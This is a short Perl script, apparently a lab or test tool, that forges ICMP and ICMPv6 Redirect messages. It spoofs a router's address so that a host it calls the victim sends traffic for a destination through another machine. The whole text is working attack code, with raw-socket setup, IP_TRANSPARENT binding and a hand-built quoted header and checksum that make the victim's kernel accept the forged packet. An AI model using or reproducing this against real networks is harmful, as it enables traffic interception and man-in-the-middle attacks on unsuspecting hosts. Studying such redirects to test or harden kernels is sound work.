# redirect.pl LINK ROUTER VICTIM DESTINATION [OTHER]: what ROUTER, whoever has the address, sends by LINK so that VICTIM asks
# OTHER for DESTINATION: by ICMP 5 (RFC 792) 172.30.0.66 unless said, by ICMPv6 137 (RFC 4861, section 4.5) fe80::66 always.
use Socket qw(inet_pton AF_INET AF_INET6 pack_sockaddr_in pack_sockaddr_in6);
my ($link, $router, $victim, $destination, $other) = @ARGV;
open my $file, '<', "/proc/net/if_inet6" or exit 3;
my ($index) = map { hex ((split)[1]) } grep / $link$/, <$file>;
if ($destination =~ /:/) {
  my ($from, $to, $for) = map { inet_pton AF_INET6, $_ } $router, $victim, $destination;
  socket my $socket, AF_INET6, 3, 58 or exit 4;
  setsockopt $socket, 41, 16, pack 'i', 255 or exit 5; # IPV6_UNICAST_HOPS
  bind $socket, pack_sockaddr_in6(0, $from, $index) or exit 6;
  my $message = pack('CCnN', 137, 0, 0, 0) . inet_pton(AF_INET6, 'fe80::66') . $for;
  send $socket, $message, 0, pack_sockaddr_in6(0, $to, $index) or exit 7;
} else {
  my ($from, $to, $for) = map { inet_pton AF_INET, $_ } $router, $victim, $destination;
  socket my $socket, AF_INET, 3, 1 or exit 4;
  setsockopt $socket, 0, 19, pack 'i', 1 or exit 5; # IP_TRANSPARENT
  bind $socket, pack_sockaddr_in(0, $from) or exit 6;
  # It quotes what it is about: an echo reply, for which the kernel looks for no socket.
  my $quoted = pack('CCnnnCCna4a4', 0x45, 0, 28, 1, 0, 64, 1, 0, $to, $for) . pack('CCnnn', 0, 0, 0xffff, 0, 0);
  my $message = pack('CCn', 5, 1, 0) . inet_pton(AF_INET, $other || '172.30.0.66') . $quoted;
  my $sum = 0;
  $sum += $_ for unpack 'n*', $message;
  $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
  substr($message, 2, 2) = pack 'n', ~$sum & 0xffff;
  send $socket, $message, 0, pack_sockaddr_in(0, $to) or exit 7;
}
